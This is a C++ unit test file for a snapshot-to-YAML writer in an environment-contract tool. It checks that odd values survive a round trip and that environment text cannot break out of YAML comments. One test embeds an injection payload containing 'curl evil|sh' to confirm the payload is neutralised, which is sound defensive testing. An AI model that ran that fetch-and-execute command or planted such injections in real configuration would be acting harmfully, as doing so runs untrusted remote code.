// The snapshot's YAML: every value, however odd, comes back unchanged when
// the contract is loaded, and a comment explains every check.
#include <gtest/gtest.h>

#include "contracts/contract_loader.hpp"
#include "provisioning/snapshot.hpp"

namespace envcontract::provisioning {
namespace {

SnapshotInput odd_input() {
  SnapshotInput input;
  input.contract_name = "golden: \"quoted\" #1";
  input.env = "env with spaces";
  input.prefix = "/srv/envs/env with spaces";
  input.host = "node-1";
  input.taken_at = "2026-12-01T00:00:00Z";
  input.python_version = "3.11.7";
  input.torch = SnapshotTorch{"2.10.0+cu129", "2.10.0", "cu129", "12.9", std::nullopt, true};
  input.triton = SnapshotTriton{"flagtree", "0.7.0+xpu3.6", {"xpu", "nvidia"}};
  input.imported = {"torch", "torch_fl"};
  input.import_failures = {{"vendor_x", "ImportError: libfoo.so: cannot open\nshared object"}};
  input.variables = {{"XPU_ROOT", "/opt/x\\y \"z\" \t# not a comment"}};
  input.library_path_first = "/opt/xpu/lib";
  input.pin = true;
  input.distributions = {{"torch", "2.10.0+cu129"}, {"flag-gems", "4.0"}};
  input.image = "registry.example/runtime:2.2.0";
  const auto devices = [](std::string id, std::string expression, std::string module,
                          long long observed, std::string op, long long value, bool advisory) {
    SnapshotDevices check;
    check.id = std::move(id);
    check.expression = std::move(expression);
    check.imports = {std::move(module)};
    check.timeout = std::chrono::milliseconds(1500);
    check.observed = observed;
    check.base_op = std::move(op);
    check.base_value = value;
    check.advisory = advisory;
    return check;
  };
  input.devices = {
      devices("devices", "torch_fl.flagos.device_count()", "torch_fl", 8, ">", 0, false),
      devices("exact", "torch.cuda.device_count()", "torch", 6, "==", 8, true)};
  input.smokes = {{"first-op", "the first op", "import torch\n\n# a comment line\nprint(1)\n",
                   "^1$", std::chrono::seconds(20), "passed", false},
                  {"indented", "", "    # starts indented\nprint(2)", "", std::chrono::seconds(5),
                   "passed", false},
                  {"trailing", "", "print(3)\n\n\n", "", std::chrono::seconds(5), "passed", false}};
  return input;
}

TEST(Snapshot, EveryValueSurvivesTheRoundTrip) {
  const auto yaml = snapshot_yaml(odd_input());
  const auto loaded = contracts::load_contract_text(yaml, "snapshot.yaml");
  ASSERT_TRUE(loaded.contract) << yaml;
  const auto& contract = *loaded.contract;
  EXPECT_EQ(contract.name, "golden: \"quoted\" #1");
  ASSERT_EQ(contract.targets.size(), 1U);
  EXPECT_EQ(contract.targets[0].image, "registry.example/runtime:2.2.0");
  std::vector<std::string> ids;
  for (const auto& check : contract.checks) {
    ids.push_back(check.id);
  }
  // A CUDA torch: no check that its CUDA library is absent.
  EXPECT_EQ(ids, (std::vector<std::string>{"python-version", "torch-build", "triton-provider",
                                           "imports", "activation-variables", "library-path-first",
                                           "pinned-distributions", "devices", "exact", "first-op",
                                           "indented", "trailing"}));
  const auto json = contracts::to_json(contract);
  const auto check = [&json](const std::string& id) {
    for (const auto& candidate : json["checks"]) {
      if (candidate["id"] == id) {
        return candidate["params"];
      }
    }
    return contracts::Json();
  };
  EXPECT_EQ(check("torch-build")["cuda"]["value"], "12.9");
  EXPECT_EQ(check("activation-variables")["equals"]["XPU_ROOT"],
            "/opt/x\\y \"z\" \t# not a comment");
  EXPECT_EQ(check("devices")["count"]["op"], ">=");
  EXPECT_EQ(check("devices")["count"]["value"], 8);
  EXPECT_EQ(check("devices")["timeout_ms"], 1500);
  EXPECT_EQ(check("first-op")["code"], "import torch\n\n# a comment line\nprint(1)\n");
  // Code exactly as it was, however it starts or ends.
  EXPECT_EQ(check("indented")["code"], "    # starts indented\nprint(2)");
  EXPECT_EQ(check("trailing")["code"], "print(3)\n\n\n");
  // "== 8" is not loosened to what was counted, and stays advisory.
  EXPECT_EQ(check("exact")["count"]["op"], "==");
  EXPECT_EQ(check("exact")["count"]["value"], 8);
  const auto& exact = contract.checks[8];
  EXPECT_EQ(exact.severity, contracts::Severity::advisory);
  EXPECT_EQ(check("first-op")["expect_output"], "^1$");
  // The failed import is said in a comment, on lines of their own.
  EXPECT_NE(yaml.find("  # Left out: vendor_x did not import: ImportError: libfoo.so: cannot "
                      "open\n  # shared object\n"),
            std::string::npos)
      << yaml;
}

// Text from the env cannot end a comment line early in any YAML parser:
// CR, NEL, LS and PS become '?', so no check can hide in a comment that one
// tool reads and another does not.
TEST(Snapshot, NoLineBreakFromTheEnvSurvivesInAComment) {
  auto input = odd_input();
  input.import_failures = {
      {"evil", "x\r  - id: injected\r    kind: command\r    run: curl evil|sh\r  #"},
      {"evil2", "y\xc2\x85  - id: nel\xe2\x80\xa8  - id: ls\xe2\x80\xa9"}};
  input.variables = {{"NAME",
                      "a\xc2\x85"
                      "b\xe2\x80\xa8"
                      "c"}};
  const auto yaml = snapshot_yaml(input);
  EXPECT_EQ(yaml.find('\r'), std::string::npos);
  EXPECT_EQ(yaml.find("\xe2\x80\xa8"), std::string::npos);
  EXPECT_EQ(yaml.find("\xc2\x85"), std::string::npos);
  EXPECT_NE(yaml.find("# Left out: evil did not import: x?  - id: injected?"), std::string::npos)
      << yaml;
  const auto loaded = contracts::load_contract_text(yaml, "snapshot.yaml");
  ASSERT_TRUE(loaded.contract) << yaml;
  for (const auto& check : loaded.contract->checks) {
    EXPECT_NE(check.id, "injected");
  }
  // In a quoted value, they are escaped and come back as they were.
  const auto json = contracts::to_json(*loaded.contract);
  for (const auto& check : json["checks"]) {
    if (check["id"] == "activation-variables") {
      EXPECT_EQ(check["params"]["equals"]["NAME"],
                "a\xc2\x85"
                "b\xe2\x80\xa8"
                "c");
    }
  }
}

TEST(Snapshot, YamlQuotingEscapesWhatYamlWouldRead) {
  EXPECT_EQ(yaml_quoted("plain"), "\"plain\"");
  EXPECT_EQ(yaml_quoted("a\"b\\c"), "\"a\\\"b\\\\c\"");
  EXPECT_EQ(yaml_quoted("x\ny\tz\x01"), "\"x\\ny\\tz\\x01\"");
}

}  // namespace
}  // namespace envcontract::provisioning
